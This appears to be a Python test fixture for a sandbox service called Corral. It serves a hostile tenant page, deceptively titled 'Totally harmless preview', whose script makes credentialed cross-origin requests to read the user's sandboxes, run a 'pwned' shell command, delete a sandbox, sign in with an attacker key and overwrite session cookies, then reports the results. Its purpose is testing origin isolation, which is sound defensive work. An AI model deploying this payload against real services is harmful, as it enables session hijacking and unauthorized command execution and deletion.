"""A hostile tenant's web app, run inside a sandbox by the drill's preview cases and the
origin tests (stdlib only: it runs on the sandbox's python3, never imported by Corral).

    python3 hostileapp.py PORT

Every request it gets is logged whole (method, path, headers) to ``requests.log``, one JSON
object a line: what a real app could keep and replay; ``GET /echo`` (or any GET with
``X-Drill-Echo``) answers the request's headers as JSON. Its page (any other GET) is an attack
on whoever opens it: its script tries, with the browser's credentials, to read and change
Corral through the service named in ``config.json`` (the ids it targets too), to read and
replace Corral's cookies, and posts what it got back to ``/report`` (kept in ``report.json``)
and into the page (``window.results``, title ``done``). Every answer also tries to set and
clear Corral's cookies (``Set-Cookie``, ``Clear-Site-Data``).
"""

from __future__ import annotations

import http.server
import json
import sys
import threading

LOCK = threading.Lock()

SCRIPT = r"""
const config = %(config)s;
const results = {origin: String(window.origin), cookie: null, attempts: {}};
window.results = results;
async function attempt(name, url, init) {
  try {
    const answer = await fetch(url, Object.assign({credentials: "include"}, init || {}));
    let text = "";
    try { text = await answer.text(); } catch (e) { text = "unreadable: " + e; }
    results.attempts[name] = {status: answer.status, type: answer.type, body: text.slice(0, 2000)};
  } catch (e) {
    results.attempts[name] = {error: String(e)};
  }
}
async function main() {
  try { results.cookie = document.cookie; } catch (e) { results.cookie = "unreadable: " + e; }
  for (const [name, value] of [["corral_session", "tossed-by-script"],
                               ["corral_port_x", "tossed-by-script"]]) {
    for (const extra of ["; path=/", "; path=/; domain=" + config.cookie_domain]) {
      try { document.cookie = name + "=" + value + extra; } catch (e) {}
    }
  }
  const ui = {"X-Corral-UI": "1"};
  const s = config.service;
  await attempt("me", s + "/ui/api/me", {headers: ui});
  await attempt("list", s + "/v1/sandboxes", {headers: ui});
  await attempt("ui_list", s + "/ui/api/sandboxes", {headers: ui});
  await attempt("run", s + "/v1/sandboxes/" + config.victim + "/commands", {
    method: "POST", headers: Object.assign({"Content-Type": "application/json"}, ui),
    body: JSON.stringify({cmd: ["sh", "-c", "echo pwned > /workspace/pwned"]})});
  await attempt("run_simple", s + "/v1/sandboxes/" + config.victim + "/commands", {
    method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
    body: JSON.stringify({cmd: ["sh", "-c", "echo pwned > /workspace/pwned-simple"]})});
  await attempt("delete", s + "/v1/sandboxes/" + config.doomed, {method: "DELETE", headers: ui});
  await attempt("delete_simple", s + "/v1/sandboxes/" + config.doomed,
                {method: "DELETE", mode: "no-cors"});
  await attempt("sign_in", s + "/ui/session", {
    method: "POST", headers: Object.assign({"Content-Type": "application/json"}, ui),
    body: JSON.stringify({key: config.attacker_key})});
  await attempt("sign_out", s + "/ui/session", {method: "DELETE", headers: ui});
  try {
    await fetch("report", {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
  } catch (e) {}
  document.getElementById("results").textContent = JSON.stringify(results);
  document.title = "done";
}
main();
"""


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, format: str, *args: object) -> None:
        pass

    def _log(self, body: bytes) -> None:
        entry = {"method": self.command, "path": self.path,
                 "headers": [[k, v] for k, v in self.headers.items()],
                 "body": body.decode("latin-1")[:4096]}
        with LOCK, open("requests.log", "a") as log:
            log.write(json.dumps(entry) + "\n")

    def _send(self, status: int, kind: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body)))
        for cookie in ("corral_session=tossed-by-app; Path=/",
                       "__Host-corral_session=tossed-by-app; Path=/; Secure",
                       "corral_port_x=tossed-by-app; Path=/", "app_cookie=1; Path=/"):
            self.send_header("Set-Cookie", cookie)
        self.send_header("Clear-Site-Data", '"cookies", "storage"')
        self.end_headers()
        self.wfile.write(body)

    def do_GET(self) -> None:
        self._log(b"")
        if self.path.split("?")[0].endswith("/echo") or self.headers.get("X-Drill-Echo"):
            seen = json.dumps([[k, v] for k, v in self.headers.items()]).encode()
            self._send(200, "application/json", seen)
            return
        with open("config.json") as f:
            config = f.read()
        page = ("<!doctype html><meta charset=utf-8><title>loading</title>"
                "<h1>Totally harmless preview</h1><pre id=results></pre>"
                f"<script>{SCRIPT % {'config': config}}</script>").encode()
        self._send(200, "text/html; charset=utf-8", page)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self._log(body)
        if self.path.endswith("/report") or self.path == "/report":
            with LOCK, open("report.json", "wb") as out:
                out.write(body)
        self._send(200, "text/plain", b"ok")


if __name__ == "__main__":
    server = http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), Handler)
    server.serve_forever()
